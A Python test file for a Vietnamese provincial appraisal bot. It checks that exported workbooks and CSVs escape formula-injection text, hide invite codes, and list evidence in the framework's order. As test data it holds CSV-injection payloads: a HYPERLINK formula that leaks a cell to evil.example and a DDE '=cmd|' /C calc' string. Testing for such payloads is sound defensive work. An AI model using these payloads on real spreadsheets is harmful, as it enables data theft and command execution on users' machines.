"""The exports as provincial staff open them: spreadsheets with no live formula whatever officials typed
or named, no invite code that could still join, indicator detail that agrees with the ranking, and
evidence filed the way the framework orders it.

A small province (tests/data/e2e-commune.yaml) answers, sends evidence and is appraised over the
console channel; names, file names, citations and comments are chosen the way a hostile or careless
user would (a leading `=`, `+`, `-`, `@`).
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlmodel import col, select

from bot.catalog import load_path
from bot.cli import main
from bot.sheets import text_cell
from flows.model import Inbound, InboundKind
from storage.db import Database
from storage.models import Invite, Member
from tests.e2e_support import Province
from tests.test_appraisal_e2e import DATA, SCRIPTS, join, province, review, self_assess

# what a spreadsheet reads as the start of a formula (OWASP, CSV injection)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")

HOSTILE_UNIT = '=HYPERLINK("http://evil.example/?leak="&A1,"Xã 70101")'
HOSTILE_DISTRICT = "+Huyện 701"
HOSTILE_PROVINCE = "@Tỉnh Thử"
HOSTILE_FILES = ("=1+2.pdf", "-tru.pdf", "+cong.pdf", "@goi.pdf")
HOSTILE_CITATION = "=1+1/QĐ-UBND - 15/03/2025 - @SUM(A1:A9) Kế hoạch chuyển đổi số"
HOSTILE_COMMENTS = ("-Thiếu biên bản nghiệm thu", "@Cần số liệu của VNPT")


def run(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    return main(list(argv), out, err), out.getvalue(), err.getvalue()


@pytest.fixture
def hostile(db: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Province:
    """Commune 70101 self-assessed with hostile evidence names and a citation, appraised with hostile
    comments, then its unit, district and province renamed with hostile names."""
    monkeypatch.setenv("DTI_FRAMEWORKS_DIR", str(DATA))
    monkeypatch.setenv("DTI_DATABASE_URL", db.url)
    p = province(db, tmp_path)
    monkeypatch.setenv("DTI_EVIDENCE_DIR", str(p.store.root))
    for i, name in enumerate(HOSTILE_FILES):
        (p.files / name).write_bytes((p.files / "bc.pdf").read_bytes() + str(i).encode())
    reviewer = join(p, "rv701", "701", "reviewer")
    commune = join(p, "c70101", "70101", "leader")
    commune.say("100", f"/file {p.files}/{HOSTILE_FILES[0]}", f"/file {p.files}/{HOSTILE_FILES[3]}", "#1")
    commune.say("có", HOSTILE_CITATION, "xong")
    commune.say("20", f"/file {p.files}/{HOSTILE_FILES[1]}", "#1")
    commune.say("100", f"/file {p.files}/{HOSTILE_FILES[2]}", "#1")
    commune.say("có", "nộp", "#1")
    review(
        reviewer,
        "Xã 70101",
        {"2.1": ("adjust", "10", HOSTILE_COMMENTS[0]), "1.1": ("adjust", "25", HOSTILE_COMMENTS[1])},
        "🔒 Kết thúc thẩm định",
    )
    units = p.files / "rename.tsv"
    units.write_text(
        "code\tname\tlevel\tparent\n"
        f"70\t{HOSTILE_PROVINCE}\tprovince\t\n"
        f"701\t{HOSTILE_DISTRICT}\tdistrict\t70\n"
        f"70101\t{HOSTILE_UNIT}\tcommune\t701\n",
        encoding="utf-8",
    )
    code, _, err = run("units", "import", str(units))
    assert code == 0, err
    return p


def xlsx_texts(path: Path) -> list[str]:
    """Every text cell of every sheet, after checking that none is a formula (in the file itself and
    as openpyxl reads it back)."""
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                xml = z.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, name
    texts = []
    for ws in load_workbook(path).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_STARTS), (ws.title, cell.coordinate, cell.value)
                    texts.append(cell.value)
    return texts


def csv_fields(text: str, delimiter: str = ",") -> list[str]:
    fields = [f for row in csv.reader(io.StringIO(text), delimiter=delimiter) for f in row]
    for field in fields:
        assert not field.startswith(FORMULA_STARTS), field
    return fields


# -- issue 20.9: no export has a live formula ------------------------------------------------------------


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_text_that_starts_a_formula_is_neutralised(start: str) -> None:
    assert text_cell(f"{start}SUM(A1)") == f"'{start}SUM(A1)"
    assert text_cell(f"''{start}x") == f"'''{start}x"  # already quoted: quoted once more, so it reads back
    assert text_cell("Xã An Bình") == "Xã An Bình" and text_cell("'quoted") == "'quoted"
    assert text_cell(-5) == -5 and text_cell(None) is None  # numbers stay numbers


def test_the_results_workbook_has_no_formula(hostile: Province, tmp_path: Path) -> None:
    assert run("results", "compute")[0] == 0
    out = tmp_path / "results.xlsx"
    code, _, err = run("export", "results", "--out", str(out))
    assert code == 0, err
    texts = xlsx_texts(out)
    assert "'" + HOSTILE_UNIT in texts and "'" + HOSTILE_DISTRICT in texts
    assert {"'" + c for c in HOSTILE_COMMENTS} <= set(texts)
    assert {"'" + f for f in HOSTILE_FILES} <= set(texts)
    assert any(t.startswith("'=1+1/QĐ-UBND – @SUM(A1:A9)") for t in texts)


def test_the_evidence_manifest_has_no_formula(hostile: Province, tmp_path: Path) -> None:
    out = tmp_path / "70101.zip"
    code, _, err = run("export", "evidence", "--unit", "70101", "--out", str(out))
    assert code == 0, err
    with zipfile.ZipFile(out) as z:
        fields = csv_fields(z.read("manifest.csv").decode("utf-8-sig"))
    assert {"'" + f for f in HOSTILE_FILES} <= set(fields)


def test_the_audit_trail_has_no_formula(hostile: Province, tmp_path: Path) -> None:
    out = tmp_path / "audit.csv"
    code, _, err = run("--by", "=cmd|' /C calc'!A0", "export", "audit", "--out", str(out))
    assert code == 0, err
    assert run("--by", "=cmd|' /C calc'!A0", "results", "compute")[0] == 0
    assert run("export", "audit", "--out", str(out))[0] == 0
    fields = csv_fields(out.read_text(encoding="utf-8-sig"))
    assert "'=cmd|' /C calc'!A0 (dtibot)" in fields


@pytest.mark.parametrize("suffix", [".xlsx", ".csv", ".tsv"])
def test_a_framework_export_has_no_formula(tmp_path: Path, suffix: str) -> None:
    text = (DATA / "e2e-commune.yaml").read_text(encoding="utf-8")
    hostile = tmp_path / "hostile.yaml"
    hostile.write_text(
        text.replace(
            "text: Tỷ lệ hộ có cáp quang", 'text: "=HYPERLINK(\\"http://evil\\") hộ có cáp quang"'
        ).replace("description: Kế hoạch.}", 'description: "-Kế hoạch."}'),
        encoding="utf-8",
    )
    out = tmp_path / f"framework{suffix}"
    code, _, err = run("framework", "export", str(hostile), "-o", str(out))
    assert code == 0, err
    if suffix == ".xlsx":
        texts = xlsx_texts(out)
    else:
        texts = csv_fields(out.read_text(encoding="utf-8"), "\t" if suffix == ".tsv" else ",")
    assert '\'=HYPERLINK("http://evil") hộ có cáp quang' in texts and "'-Kế hoạch." in texts
    # and the exported sheet imports back to the same texts
    back = tmp_path / "back.yaml"
    code, _, err = run("framework", "import", str(out), "-o", str(back), "--id", "e2e-commune")
    assert code == 0, err
    imported = load_path(back).framework
    one, two = imported.indicator("1.1"), imported.indicator("1.2")
    assert one is not None and one.text == '=HYPERLINK("http://evil") hộ có cáp quang'
    assert two is not None and two.evidence.description == "-Kế hoạch."


# -- issue 20.10: no export holds an invite code that could join --------------------------------------------


def test_no_export_holds_a_usable_invite_code(
    db: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DTI_FRAMEWORKS_DIR", str(DATA))
    monkeypatch.setenv("DTI_DATABASE_URL", db.url)
    p = province(db, tmp_path)
    monkeypatch.setenv("DTI_EVIDENCE_DIR", str(p.store.root))
    unused = {
        run("invite", "create", "--unit", unit, "--role", role)[1].strip()
        for unit, role in (
            ("70", "reviewer"),
            ("701", "reviewer"),
            ("70101", "leader"),
            ("70102", "respondent"),
        )
    }
    commune = join(p, "c70101", "70101", "respondent")  # used through the chat
    commune.say("100", f"/file {p.files}/bc.pdf", "#1")
    assert run("results", "compute")[0] == 0
    with db.session() as s:
        invites = {i.code: i for i in s.exec(select(Invite))}
    assert unused <= set(invites) and len(invites) == 5

    exports = {
        "audit.csv": ("export", "audit"),
        "results.xlsx": ("export", "results"),
        "70101.zip": ("export", "evidence", "--unit", "70101"),
    }
    text = ""
    for name, argv in exports.items():
        code, _, err = run(*argv, "--out", str(tmp_path / name))
        assert code == 0, err
        text += "\n" + everything_in(tmp_path / name)
    for code in invites:
        assert code not in text.upper(), code  # not a single code, used or not

    audit = list(csv.reader(io.StringIO((tmp_path / "audit.csv").read_text(encoding="utf-8-sig"))))
    created = [row for row in audit if row[2] == "invite.create"]
    assert sorted(row[3] for row in created) == sorted(f"invite:{i.id}" for i in invites.values())
    for row in created:
        invite = next(i for i in invites.values() if f"invite:{i.id}" == row[3])
        assert f'"code": "{invite.code[:2]}******"' in row[6]
    joined = next(row for row in audit if row[2] == "member.join")
    used = next(i for i in invites.values() if i.used_at is not None)
    assert f'"invite": {used.id}' in joined[6] and f"{used.code[:2]}******" in joined[6]

    # whatever looks like a code in an export, none of it joins anyone to anything
    service = p.service()
    tokens = sorted({t.upper() for t in re.findall(r"[A-Za-z0-9]{6,16}", text)})
    assert tokens
    for n, token in enumerate(tokens):
        service.handle("console", f"outsider{n}", None, Inbound(InboundKind.TEXT, text=f"/start {token}"))
    with db.session() as s:
        assert not s.exec(select(Member).where(col(Member.chat_id).startswith("outsider"))).all()


def everything_in(path: Path) -> str:
    """All the text of an export: a csv as is, a zip's or workbook's every member, unpacked."""
    if path.suffix == ".csv":
        return path.read_text(encoding="utf-8-sig")
    with zipfile.ZipFile(path) as z:
        return "\n".join(z.read(n).decode("utf-8", errors="replace") for n in z.namelist())


def test_codes_recorded_before_the_fix_are_masked_in_the_export(
    db: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Audit rows written by earlier versions named invites by their code: the export hides them."""
    import datetime as dt

    from storage.models import AuditLog

    monkeypatch.setenv("DTI_FRAMEWORKS_DIR", str(DATA))
    monkeypatch.setenv("DTI_DATABASE_URL", db.url)
    province(db, tmp_path)
    code = run("invite", "create", "--unit", "701", "--role", "reviewer")[1].strip()
    with db.session() as s:
        invite = s.exec(select(Invite).where(Invite.code == code)).one()
        at = dt.datetime(2026, 11, 1, tzinfo=dt.UTC)
        s.add(
            AuditLog(at=at, action="invite.create", entity="invite", entity_id=code, new_json='{"role": "x"}')
        )
        s.add(
            AuditLog(
                at=at,
                action="member.join",
                entity="member",
                entity_id="9",
                new_json=f'{{"invite": "{code}"}}',
            )
        )
    out = tmp_path / "audit.csv"
    assert run("export", "audit", "--out", str(out))[0] == 0
    text = out.read_text(encoding="utf-8-sig")
    assert code not in text.upper()
    rows = list(csv.reader(io.StringIO(text)))
    assert sum(1 for row in rows if row[3] == f"invite:{invite.id}") == 2
    assert f'{{"invite": "#{invite.id} {code[:2]}******"}}' in [row[6] for row in rows]


# -- issue 21.9: the details agree with the ranking, and say who sent what, when, in the framework's order


def test_the_detail_sheet_agrees_with_the_ranking(
    db: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A unit whose appraisal was not closed is ranked with 0: its detail rows give 0 appraised points,
    and say why, even for indicators a reviewer already accepted."""
    monkeypatch.setenv("DTI_FRAMEWORKS_DIR", str(DATA))
    monkeypatch.setenv("DTI_DATABASE_URL", db.url)
    p = province(db, tmp_path)
    reviewer = join(p, "rv701", "701", "reviewer")
    for code in ("70101", "70102"):
        self_assess(join(p, f"c{code}", code, "leader"), SCRIPTS[code], submit=True)
    review(reviewer, "Xã 70101", {}, "🔒 Kết thúc thẩm định")
    review(reviewer, "Xã 70102", {}, None)  # every indicator accepted, the appraisal left open
    assert run("results", "compute")[0] == 0
    out = tmp_path / "results.xlsx"
    assert run("export", "results", "--out", str(out))[0] == 0
    ranking, detail, _ = load_workbook(out).worksheets
    totals = {row[1].value: row[4].value for row in ranking.iter_rows(min_row=2)}
    rows = [[c.value for c in row] for row in detail.iter_rows(min_row=2)]
    for unit in ("70101", "70102"):
        mine = [r for r in rows if r[0] == unit]
        assert sum(r[6] for r in mine) == pytest.approx(totals[unit])  # appraised points add up to the total
    open_rows = [r for r in rows if r[0] == "70102"]
    assert totals["70102"] == 0 and all(r[6] == 0 for r in open_rows)
    assert all("chưa kết thúc thẩm định" in r[8] for r in open_rows)
    assert [r[7] for r in open_rows] == [-r[5] for r in open_rows]  # the difference says what is lost
    assert any(r[5] > 0 for r in open_rows)


def test_evidence_is_listed_with_its_sender_date_and_in_the_framework_order(
    db: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from tests.e2e_support import answer_for, make_province

    monkeypatch.setenv("DTI_DATABASE_URL", db.url)
    p = make_province(db, tmp_path)
    monkeypatch.setenv("DTI_EVIDENCE_DIR", str(p.store.root))
    fw = load_path(
        Path(__file__).resolve().parent.parent / "scoring/frameworks/tay-ninh-commune-2025.yaml"
    ).framework
    chat, _ = p.chat("c1")
    chat.run([], join=p.invite("25840", "respondent"))
    for code, evidence in (
        ("4.10", f"/file {p.files}/bao-cao.pdf"),
        ("4.2", "45/QĐ-UBND - 12/03/2025 - Về việc ban hành kế hoạch"),
        ("1.1", f"/file {p.files}/anh-chup.png"),
    ):
        for line in (f"câu {code}", answer_for(fw, code)[0], evidence, "xong"):
            inbound = chat.inbound_for(line)
            assert inbound is not None
            chat.send(inbound)
    evidence_codes = [e.indicator_code for e in p.evidence("25840")]
    assert sorted(evidence_codes) == ["1.1", "4.10", "4.2"], evidence_codes

    archive = tmp_path / "25840.zip"
    assert run("export", "evidence", "--unit", "25840", "--out", str(archive))[0] == 0
    with zipfile.ZipFile(archive) as z:
        folders = [n.split("/")[0] for n in z.namelist() if "/" in n]
        manifest = list(csv.DictReader(io.StringIO(z.read("manifest.csv").decode("utf-8-sig"))))
    assert folders == ["1.1", "4.10"]  # 4.2 is a citation: no file
    assert [m["Mã chỉ tiêu"] for m in manifest] == ["1.1", "4.2", "4.10"]
    cited = next(m for m in manifest if m["Mã chỉ tiêu"] == "4.2")
    assert cited["Ngày văn bản"] == "12/03/2025"
    assert all(m["Người gửi"] == "người trả lời · Xã An Bình" for m in manifest)
    assert all(m["Tài khoản chat"] == "console:c1" for m in manifest)

    assert run("results", "compute")[0] == 0
    workbook = tmp_path / "results.xlsx"
    assert run("export", "results", "--out", str(workbook))[0] == 0
    sheet = load_workbook(workbook).worksheets[2]
    header = [c.value for c in sheet[1]]
    rows = [dict(zip(header, (c.value for c in row), strict=True)) for row in sheet.iter_rows(min_row=2)]
    assert [r["Mã chỉ tiêu"] for r in rows] == ["1.1", "4.2", "4.10"]
    assert next(r for r in rows if r["Mã chỉ tiêu"] == "4.2")["Ngày văn bản"] == "12/03/2025"
    assert {(r["Người gửi"], r["Tài khoản chat"]) for r in rows} == {
        ("người trả lời · Xã An Bình", "console:c1")
    }
